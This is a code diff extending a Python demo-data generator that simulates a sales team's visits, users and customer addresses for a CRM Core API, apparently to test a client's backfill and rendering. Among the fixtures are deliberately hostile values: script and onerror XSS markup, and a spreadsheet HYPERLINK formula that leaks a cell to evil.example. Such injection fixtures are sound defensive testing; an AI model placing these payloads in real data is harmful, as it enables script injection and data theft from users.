@@ -103,8 +103,33 @@ REP_NAMES = (
     "Jessica Moore",
     "Björn Larsen",
 )
+RESOURCE_TYPES = ("lead", "contact", "prospect_and_customer")
 RENAMED_REP = "Jonathan Smith"
 MANAGER_NAMES = ("Patricia Holloway", "Greg Tanaka")
+
+# The Core API's side (see team_generate): the heavy rep, the users the Firehose never names,
+# groups, outcomes no visit uses, addresses.
+HEAVY_REP_ID = 180_001
+HEAVY_REP_NAME = "Ramona Castellanos"
+CORE_GROUPS = ({"id": 2201, "name": "Central"}, {"id": 2202, "name": "East"})
+CORE_EXTRA_USERS = (
+    {"id": 173_001, "name": "Victoria Ashworth", "email": f"victoria.ashworth@{EMAIL_DOMAIN}", "role": "admin",
+     "team_name": "Sales leadership"},
+    {"id": 173_002, "name": "Nadia Okafor", "email": f"nadia.okafor@{EMAIL_DOMAIN}", "role": "user",
+     "team_name": 'Key accounts <b onmouseover="alert(1)">&amp;</b> =1+1'},
+)  # fmt: skip
+CORE_UNUSED_OUTCOMES = {4109: "Referred to distributor", 4110: '=HYPERLINK("http://x","Won") <i>big</i>'}
+STREETS = (
+    "N Michigan Ave", "W Madison St", "Elm St", "Commerce St", "Peachtree St NE", "Main St", "Oak Lawn Ave",
+    "Ponce de Leon Ave", "Lake Shore Dr", "Ross Ave", "Industrial Blvd", "Halsted St",
+)  # fmt: skip
+POSTAL_PREFIXES = {"Chicago": "606", "Dallas": "752", "Atlanta": "303"}
+HOSTILE_ADDRESSES = (
+    '<script>alert("address")</script><img src=x onerror=alert(1)> 12 Main St, 60601 Chicago, United States',
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me"), 75201 Dallas, United States',
+    "1 " + "Very Long Industrial Park Service Road " * 30 + ", 30303 Atlanta, United States",
+    "Calle Núñez 5, Édifice Ærø, 東京 ビル 3F, 60614 Chicago, États-Unis",
+)
 
 SUMMARIES: dict[int, tuple[str, ...]] = {
     4101: (
@@ -203,6 +228,40 @@ class DemoData:
     suspicious: dict[int, str]
     customers: dict[tuple[str, int], tuple[float, float]]
     _world: _World = field(repr=False, compare=False)
+    heavy_rep_id: int | None = None
+
+    # --- the Core API's view (visits/demo/core_api.py serves it) ----------------------------
+
+    def core_visits(self) -> dict[int, dict]:
+        """Visit id -> its v2 `data`, for every visit Sell still holds: history and window, never
+        one the Firehose deleted."""
+        with self._world.lock:
+            return self._world.core_visits(deleted=False)
+
+    def core_deleted_visits(self) -> dict[int, dict]:
+        """Visit id -> the v2 `data` it had, for visits the Firehose deleted (a stale Core API's)."""
+        with self._world.lock:
+            return self._world.core_visits(deleted=True)
+
+    def core_users(self) -> dict[int, dict]:
+        """User id -> v2 user `data`: every rep (also those absent from the users stream), the
+        managers, the director and the manager without visits."""
+        with self._world.lock:
+            return self._world.core_users()
+
+    def core_outcomes(self) -> dict[int, str]:
+        """Outcome id -> its current name, also those no visit uses (CORE_UNUSED_OUTCOMES)."""
+        with self._world.lock:
+            return self._world.core_outcomes()
+
+    def core_history_positions(self) -> dict[int, tuple[float, float] | None]:
+        """History visit id -> where the rep was (the truth; the Core API never tells)."""
+        with self._world.lock:
+            return {visit_id: entry["position"] for visit_id, entry in self._world.history.items()}
+
+    def core_version(self) -> int:
+        """Moves whenever a visit is created, so a server may cache what it lists."""
+        return self._world.core_version
 
     def expected_visits(self) -> dict[int, dict]:
         """Visit id -> {"deleted", "sequence", "snapshot"} a correct client ends with."""
@@ -244,16 +303,38 @@ def team_generate(
     updates: bool = True,
     deletes: bool = True,
     malformed: bool = False,
+    history_weeks: int = 0,
+    heavy_rep_visits: int = 0,
 ) -> DemoData:
     """Simulate the team and return both event logs with the state they must produce.
 
     `now` is the clock: the simulated window is the `weeks` before it, and nothing else here
     reads the date, so a seed and a `now` always give the same data. Left out, it is the real
-    now (the demo command); tests pass a fixed moment."""
+    now (the demo command); tests pass a fixed moment.
+
+    The Core API's view (`DemoData.core_*`) holds more than the logs, drawn with dice of its own
+    so the window's events and ids are the same whatever is asked for here:
+
+    - `history_weeks`: the team's visits in the weeks before the window, in the Core API only
+      (Sell's Firehose keeps 72 hours). Same reps, customers, outcome and status mix; their ids
+      count down from FIRST_VISIT_ID - 1 (the newest) in order of creation. One of them may be
+      the window's "prehistoric" delete, and then it is gone from the Core API too.
+    - `heavy_rep_visits`: one more rep (HEAVY_REP_ID, in the Core API's users, not in the
+      Firehose's) with that many visits before the window (over `history_weeks`, or 26 weeks), so
+      a backfill must split its queries: a leaf of min(n, 20,000, max(10,001, 3n/5)) visits share
+      status verified, outcome 4101 and resource type lead (past the 10,000 one sort order
+      reaches, so only both orders get them all); the rest spread over every other combination
+      of status, outcome and resource type.
+    - Every customer has a `resource_address` ("line1, postal code city, country"); four are
+      hostile (markup, a spreadsheet formula, over 1,000 characters, non-ASCII).
+    - Users: teams in two regional groups reporting to the two managers, who report to a
+      director (group null); one more manager with no visits, absent from the Firehose."""
     if reps < 1:
         raise ValueError("reps must be at least 1")
     if weeks < 1:
         raise ValueError("weeks must be at least 1")
+    if history_weeks < 0 or heavy_rep_visits < 0:
+        raise ValueError("history_weeks and heavy_rep_visits must not be negative")
     now = (now or datetime.now(UTC)).astimezone(UTC).replace(microsecond=0)
     world = _World(seed=seed, now=now, weeks=weeks, updates=updates)
     world.team_build(reps=reps)
@@ -265,6 +346,8 @@ def team_generate(
         visits_log += visits_bad
         users_log += users_bad
         malformed_count = {"visits": len(visits_bad), "users": len(users_bad)}
+    world.history_build(weeks=history_weeks, heavy_visits=heavy_rep_visits)
+    world.addresses_build()
     return DemoData(
         users_events=_ordered(users_log),
         visits_events=_ordered(visits_log),
@@ -273,10 +356,11 @@ def team_generate(
         suspicious={rep.id: rep.pattern for rep in world.reps if rep.pattern},
         customers={
             (c.resource_type, c.resource_id): c.position
-            for rep in world.reps
+            for rep in world.reps + ([world.heavy] if world.heavy else [])
             for c in rep.customers + rep.far_customers
         },
         _world=world,
+        heavy_rep_id=world.heavy.id if world.heavy else None,
     )
 
 
@@ -303,6 +387,13 @@ class _World:
         self.outcomes_seen: dict[int, tuple[datetime, str]] = {}
         self.next_visit_id = FIRST_VISIT_ID
         self.next_resource_id = {"lead": 3_100_001, "contact": 5_200_001, "prospect_and_customer": 7_400_001}
+        # The Core API's side (core.py of the demo): history before the window, addresses, teams.
+        self.seed = seed
+        self.updated_at: dict[int, datetime] = {}  # visit id -> its last change, for v2's updated_at
+        self.history: dict[int, dict] = {}  # visit id -> {"data": v2 data, "position": (lat, lon) | None}
+        self.addresses: dict[tuple[str, int], str] = {}
+        self.heavy: Rep | None = None
+        self.core_version = 0  # moves with every visit created, so a server can cache its listing
 
     # --- the team -------------------------------------------------------------------------
 
@@ -358,12 +449,15 @@ class _World:
         if promoted is not None:
             self.user_changes.append((self._moment(0.6, 0.95), self.reps[promoted], {"role": "admin"}))
 
-    def _customer_new(self, region: Region) -> Customer:
-        resource_type = self.rng.choices(("lead", "contact", "prospect_and_customer"), weights=(35, 30, 35))[0]
+    def _customer_new(
+        self, region: Region, *, rng: random.Random | None = None, resource_type: str | None = None
+    ) -> Customer:
+        rng = rng or self.rng
+        resource_type = resource_type or rng.choices(RESOURCE_TYPES, weights=(35, 30, 35))[0]
         resource_id = self.next_resource_id[resource_type]
-        self.next_resource_id[resource_type] += self.rng.randint(1, 40)
-        metres = CUSTOMER_RADIUS_M * math.sqrt(self.rng.random())  # uniform over the disc
-        position = _offset(region.latitude, region.longitude, metres=metres, bearing=self.rng.uniform(0, 360))
+        self.next_resource_id[resource_type] += rng.randint(1, 40)
+        metres = CUSTOMER_RADIUS_M * math.sqrt(rng.random())  # uniform over the disc
+        position = _offset(region.latitude, region.longitude, metres=metres, bearing=rng.uniform(0, 360))
         return Customer(resource_type, resource_id, position)
 
     # --- users ----------------------------------------------------------------------------
@@ -442,8 +536,18 @@ class _World:
             entries.append(self._prehistoric_delete())
         return entries
 
-    def _day_plan(self, rep: Rep, day: date) -> list[_Visit]:
-        rng, tz = self.rng, rep.region.tz
+    def _day_plan(
+        self,
+        rep: Rep,
+        day: date,
+        *,
+        rng: random.Random | None = None,
+        since: datetime | None = None,
+        until: datetime | None = None,
+    ) -> list[_Visit]:
+        """The rep's visits of one working day between `since` and `until` (the window's by default)."""
+        rng, tz = rng or self.rng, rep.region.tz
+        since, until = since or self.start, until or self.now
         clock = datetime.combine(day, time(8, 0), tzinfo=tz) + timedelta(minutes=rng.randint(0, 75))
         closing = datetime.combine(day, time(17, 45), tzinfo=tz)
         count = rng.randint(3, 7)
@@ -455,32 +559,40 @@ class _World:
             if index:
                 clock += timedelta(minutes=rng.randint(20, 50) if index == far_index else rng.randint(35, 110))
             visited_at = (clock + timedelta(seconds=rng.randint(0, 59))).astimezone(UTC)
-            if clock > closing or visited_at > self.now:
+            if clock > closing or visited_at > until:
                 break
-            if visited_at < self.start or (rep.active_until and visited_at > rep.active_until - timedelta(days=1)):
+            if visited_at < since or (rep.active_until and visited_at > rep.active_until - timedelta(days=1)):
                 continue
             if index == far_index:
                 customer = rng.choice(rep.far_customers)
             else:
-                customer = self._customer_pick(rep, avoid=previous)
+                customer = self._customer_pick(rep, avoid=previous, rng=rng)
             forced = "verified" if far_index is not None and index in (far_index - 1, far_index) else None
-            visits.append(self._visit_plan(rep, customer, visited_at, forced=forced))
+            visits.append(self._visit_plan(rep, customer, visited_at, forced=forced, rng=rng))
             previous = customer
         return visits
 
-    def _customer_pick(self, rep: Rep, *, avoid: Customer | None) -> Customer:
+    def _customer_pick(self, rep: Rep, *, avoid: Customer | None, rng: random.Random | None = None) -> Customer:
         # Zipf-like weights: a few regulars get most of the visits, the tail gets the odd one.
         weights = [1 / (rank + 1) ** 0.8 for rank in range(len(rep.customers))]
         while True:
-            customer = self.rng.choices(rep.customers, weights=weights)[0]
+            customer = (rng or self.rng).choices(rep.customers, weights=weights)[0]
             if customer != avoid:
                 return customer
 
-    def _visit_plan(self, rep: Rep, customer: Customer, visited_at: datetime, *, forced: str | None) -> _Visit:
-        rng = self.rng
+    def _visit_plan(
+        self,
+        rep: Rep,
+        customer: Customer,
+        visited_at: datetime,
+        *,
+        forced: str | None,
+        rng: random.Random | None = None,
+    ) -> _Visit:
+        rng = rng or self.rng
         weights = STATUS_WEIGHTS["too_far" if rep.pattern == "too_far" else None]
         status = forced or rng.choices(STATUSES, weights=weights)[0]
-        position = self._position(customer, status)
+        position = self._position(customer, status, rng=rng)
         if rep.spots and forced is None and rng.random() < 0.35:
             spot = rng.choice(rep.spots)
             if 1_000 <= _distance_m(spot, customer.position) <= 30_000:
@@ -490,17 +602,21 @@ class _World:
         created_at = visited_at + timedelta(seconds=rng.randint(60, 900))
         return _Visit(rep, customer, visited_at, created_at, status, position, outcome_id, summary)
 
-    def _position(self, customer: Customer, status: str) -> tuple[float, float] | None:
+    def _position(
+        self, customer: Customer, status: str, *, rng: random.Random | None = None
+    ) -> tuple[float, float] | None:
+        rng = rng or self.rng
         if status == "verified":
-            metres = self.rng.uniform(5, 140)
+            metres = rng.uniform(5, 140)
         elif status == "resource_location_too_far":
-            metres = self.rng.uniform(1_000, 30_000)
+            metres = rng.uniform(1_000, 30_000)
         else:
             return None
-        return _offset(*customer.position, metres=metres, bearing=self.rng.uniform(0, 360))
+        return _offset(*customer.position, metres=metres, bearing=rng.uniform(0, 360))
 
-    def _bursts_schedule(self, plans: list[_Visit]) -> None:
+    def _bursts_schedule(self, plans: list[_Visit], *, rng: random.Random | None = None) -> None:
         """Mon-Tue visits are logged on Thursday morning, Wed-Fri ones on the next Monday."""
+        rng = rng or self.rng
         sessions: dict[date, list[_Visit]] = {}
         for plan in plans:
             local = plan.visited_at.astimezone(plan.rep.region.tz).date()
@@ -509,9 +625,9 @@ class _World:
             sessions.setdefault(session, []).append(plan)
         for session, batch in sessions.items():
             tz = batch[0].rep.region.tz
-            clock = datetime.combine(session, time(6, 45), tzinfo=tz) + timedelta(minutes=self.rng.randint(0, 30))
+            clock = datetime.combine(session, time(6, 45), tzinfo=tz) + timedelta(minutes=rng.randint(0, 30))
             for plan in sorted(batch, key=lambda plan: plan.visited_at):
-                clock += timedelta(seconds=self.rng.randint(20, 90))
+                clock += timedelta(seconds=rng.randint(20, 90))
                 plan.created_at = clock.astimezone(UTC)
 
     def _visit_history(
@@ -535,6 +651,7 @@ class _World:
                 old, new = truth["snapshot"], self._snapshot(visit_id, plan, at=at)
                 previous = {key: old[key] for key in new if new[key] != old[key]}
                 truth.update(sequence=truth["sequence"] + 1, snapshot=new)
+                self.updated_at[visit_id] = at
                 self._outcome_seen(new, at=at)
                 entries.append(
                     (
@@ -570,6 +687,8 @@ class _World:
     def _visit_create(self, visit_id: int, plan: _Visit) -> dict:
         snapshot = self._snapshot(visit_id, plan, at=plan.created_at)
         self.visits[visit_id] = {"deleted": False, "sequence": 1, "snapshot": snapshot}
+        self.updated_at[visit_id] = plan.created_at
+        self.core_version += 1
         self.creators.add(plan.rep.id)
         self._outcome_seen(snapshot, at=plan.created_at)
         return self._event("visit", "created", copy.deepcopy(snapshot), sequence=1, at=plan.created_at)
@@ -633,6 +752,193 @@ class _World:
         if seen is None or at >= seen[0]:
             self.outcomes_seen[outcome["id"]] = (at, outcome["name"])
 
+    # --- the Core API's view: history, addresses, teams -----------------------------------
+
+    def history_build(self, *, weeks: int, heavy_visits: int) -> None:
+        """Visits before the window, from dice of their own (the window's stay as they are)."""
+        rng = random.Random(self.seed + 1)
+        since = self.start - timedelta(weeks=weeks)
+        until = self.start - timedelta(seconds=1)
+        plans: list[_Visit] = []
+        for rep in self.reps if weeks else []:
+            rep_plans = []
+            day, last = since.astimezone(rep.region.tz).date(), until.astimezone(rep.region.tz).date()
+            while day <= last:
+                if day.weekday() < 5 and rng.random() > 0.04:
+                    rep_plans += self._day_plan(rep, day, rng=rng, since=since, until=until)
+                day += timedelta(days=1)
+            if rep.pattern == "late_bursts":
+                self._bursts_schedule(rep_plans, rng=rng)
+            plans += [plan for plan in rep_plans if plan.created_at < self.start]
+        if heavy_visits:
+            plans += self._heavy_plans(
+                rng, count=heavy_visits, since=since if weeks else self.start - timedelta(weeks=26)
+            )
+        plans.sort(key=lambda plan: (plan.created_at, plan.rep.id))
+        for index in rng.sample(range(len(plans)), min(len(plans), len(SPECIAL_SUMMARIES))):
+            plans[index].summary = SPECIAL_SUMMARIES[index % len(SPECIAL_SUMMARIES)]
+        first_id = FIRST_VISIT_ID - len(plans)
+        for offset, plan in enumerate(plans):
+            visit_id = first_id + offset
+            updated_at = plan.created_at
+            if rng.random() < 0.03:  # edited later, as the window's visits are now and then
+                updated_at += timedelta(seconds=rng.randint(15 * 60, 36 * 3600))
+                plan.summary = f"{plan.summary} {rng.choice(FOLLOW_UPS)}".strip()
+            data = {
+                "id": visit_id,
+                "creator_id": plan.rep.id,
+                "outcome_id": plan.outcome_id,
+                "resource_type": plan.customer.resource_type,
+                "resource_id": plan.customer.resource_id,
+                "visited_at": _iso_ms(plan.visited_at),
+                "created_at": _iso_ms(plan.created_at),
+                "updated_at": _iso_ms(min(updated_at, self.now)),
+                "summary": plan.summary,
+                "rep_location_verification_status": plan.status,
+            }
+            self.history[visit_id] = {"data": data, "position": plan.position}
+
+    def _heavy_plans(self, rng: random.Random, *, count: int, since: datetime) -> list[_Visit]:
+        """The heavy rep's visits; see team_generate for their shape."""
+        region = REGIONS[0]
+        heavy = Rep(id=HEAVY_REP_ID, name=HEAVY_REP_NAME, email=f"ramona.castellanos@{EMAIL_DOMAIN}", region=region)
+        heavy.in_users = False
+        heavy.customers = [
+            self._customer_new(region, rng=rng, resource_type=kind) for kind in RESOURCE_TYPES for _ in range(40)
+        ]
+        self.heavy = heavy
+        leaf = min(count, 20_000, max(10_001, count * 3 // 5))
+        leads = [c for c in heavy.customers if c.resource_type == "lead"]
+        leaf_key = ("verified", 4101, "lead")
+        span = (self.start - timedelta(hours=1) - since).total_seconds()
+        plans = []
+        for index in range(count):
+            visited_at = (since + timedelta(seconds=rng.uniform(0, span))).replace(microsecond=0)
+            if index < leaf:
+                status, outcome_id, customer = "verified", 4101, rng.choice(leads)
+            else:
+                while True:
+                    status, outcome_id = rng.choice(STATUSES), rng.choice(list(OUTCOMES))
+                    customer = rng.choice(heavy.customers)
+                    if (status, outcome_id, customer.resource_type) != leaf_key:
+                        break
+            summary = rng.choice(SUMMARIES[outcome_id])
+            created_at = visited_at + timedelta(seconds=rng.randint(60, 900))
+            position = self._position(customer, status, rng=rng)
+            plans.append(_Visit(heavy, customer, visited_at, created_at, status, position, outcome_id, summary))
+        return plans
+
+    def addresses_build(self) -> None:
+        """Every customer's address as Sell's Core API gives it, a few of them hostile."""
+        rng = random.Random(self.seed + 2)
+        reps = self.reps + ([self.heavy] if self.heavy else [])
+        customers = sorted(
+            {
+                (c.resource_type, c.resource_id): (c, rep.region)
+                for rep in reps
+                for c in rep.customers + rep.far_customers
+            }.items()
+        )
+        for key, (_, region) in customers:
+            street = f"{rng.randint(1, 9800)} {rng.choice(STREETS)}"
+            postal = f"{POSTAL_PREFIXES[region.name]}{rng.randint(0, 99):02d}"
+            self.addresses[key] = f"{street}, {postal} {region.name}, United States"
+        for (key, _), address in zip(rng.sample(customers, min(len(customers), 4)), HOSTILE_ADDRESSES, strict=False):
+            self.addresses[key] = address
+
+    def core_visits(self, *, deleted: bool) -> dict[int, dict]:
+        """v2 data of the visits Sell lists (`deleted` False) or of those the Firehose deleted."""
+        gone = {visit_id for visit_id, truth in self.visits.items() if truth["deleted"]}
+        result: dict[int, dict] = {}
+        for visit_id, entry in self.history.items():
+            if (visit_id in gone) == deleted:
+                result[visit_id] = dict(entry["data"], resource_address=self._address(entry["data"]))
+        for visit_id, truth in self.visits.items():
+            snapshot = truth["snapshot"]
+            if snapshot is None or truth["deleted"] != deleted:
+                continue
+            data = {
+                "id": visit_id,
+                "creator_id": snapshot["creator_id"],
+                "outcome_id": snapshot["outcome"]["id"],
+                "resource_type": snapshot["resource_type"],
+                "resource_id": snapshot["resource_id"],
+                "visited_at": snapshot["visited_at"].replace("Z", ".000Z"),
+                "created_at": snapshot["created_at"].replace("Z", ".000Z"),
+                "updated_at": _iso_ms(self.updated_at[visit_id]),
+                "summary": snapshot["summary"],
+                "rep_location_verification_status": snapshot["sales_rep_location"]["verification_status"],
+            }
+            data["resource_address"] = self._address(data)
+            result[visit_id] = data
+        return result
+
+    def _address(self, data: dict) -> str:
+        return self.addresses.get((data["resource_type"], data["resource_id"]), "")
+
+    def core_users(self) -> dict[int, dict]:
+        groups = {"Central": CORE_GROUPS[0], "East": CORE_GROUPS[1]}
+        director, quiet = CORE_EXTRA_USERS
+        users: dict[int, dict] = {}
+
+        def add(person: dict, **fields: object) -> None:
+            known = self.users.get(person["id"], {})
+            user = {
+                "id": person["id"],
+                "name": known.get("name", person["name"]),
+                "email": known.get("email", person["email"]),
+                "status": known.get("status", "active"),
+                "role": known.get("role", person.get("role", "user")),
+                "roles": [],
+                "confirmed": True,
+                "invited": True,
+                "phone_number": "",
+                "created_at": (known.get("created_at") or _iso(self.start - timedelta(days=2000))).replace(
+                    "Z", ".000Z"
+                ),
+                "updated_at": _iso_ms(self.start),
+                "deleted_at": None,
+                "zendesk_user_id": str(900_000_000 + person["id"]),
+                **fields,
+            }
+            users[user["id"]] = user
+
+        add(director, team_name=director["team_name"], group=None, reports_to=None, timezone="UTC-05:00")
+        for index, manager in enumerate(self.managers):
+            group = CORE_GROUPS[index % len(CORE_GROUPS)]
+            add(
+                {"id": manager.id, "name": manager.name, "email": manager.email, "role": "admin"},
+                team_name=f"{group['name']} field sales", group=dict(group), reports_to=director["id"],
+                timezone="UTC-06:00" if index == 0 else "UTC-05:00",
+            )  # fmt: skip
+        add(
+            quiet,
+            team_name=quiet["team_name"],
+            group=dict(CORE_GROUPS[1]),
+            reports_to=director["id"],
+            timezone="UTC-05:00",
+        )
+        for rep in self.reps:
+            region = "East" if rep.region.name == "Atlanta" else "Central"
+            manager = self.managers[0 if region == "Central" else 1] if len(self.managers) > 1 else None
+            add(
+                {"id": rep.id, "name": rep.name, "email": rep.email},
+                team_name=f"{groups[region]['name']} field sales", group=dict(groups[region]),
+                reports_to=manager.id if manager else director["id"],
+                timezone="UTC-05:00" if rep.region.name == "Atlanta" else "UTC-06:00",
+            )  # fmt: skip
+        if self.heavy:
+            heavy = self.heavy
+            add(
+                {"id": heavy.id, "name": heavy.name, "email": heavy.email},
+                team_name=quiet["team_name"], group=dict(CORE_GROUPS[1]), reports_to=quiet["id"], timezone="UTC-06:00",
+            )  # fmt: skip
+        return users
+
+    def core_outcomes(self) -> dict[int, str]:
+        names = {outcome_id: self._outcome_name(outcome_id, at=self.now) for outcome_id in OUTCOMES}
+        return {**names, **CORE_UNUSED_OUTCOMES}
+
     # --- shared ---------------------------------------------------------------------------
 
     def _moment(self, low: float = 0.0, high: float = 1.0) -> datetime:
@@ -691,6 +997,11 @@ def _ordered(entries: list[tuple[datetime, dict]]) -> list[dict]:
 
 def _iso(moment: datetime) -> str:
     return moment.astimezone(UTC).strftime(TIME_FORMAT)
+
+
+def _iso_ms(moment: datetime) -> str:
+    """As the Core API writes times: milliseconds, where the Firehose sends seconds only."""
+    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z")
 
 
 def _names(*, count: int) -> list[str]:
